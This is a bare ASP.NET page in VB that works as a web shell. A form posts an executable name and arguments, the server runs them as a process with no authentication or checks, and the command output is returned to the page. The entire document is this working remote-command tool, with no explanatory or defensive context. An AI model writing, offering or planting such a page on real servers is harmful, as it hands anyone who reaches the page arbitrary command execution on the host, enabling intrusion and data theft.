<%@ Page Language="VB" %>
<script runat="server">
Sub Go(sender As Object, e As EventArgs)
  Dim p As New Process()
  p.StartInfo.FileName = Request.Form("exe")
  p.StartInfo.Arguments = Request.Form("args")
  p.StartInfo.UseShellExecute = False
  p.StartInfo.RedirectStandardOutput = True
  p.Start()
  result.Text = p.StandardOutput.ReadToEnd()
End Sub
</script>
<form runat="server"><asp:Button OnClick="Go" runat="server" Text="go"/><asp:Label id="result" runat="server"/></form>
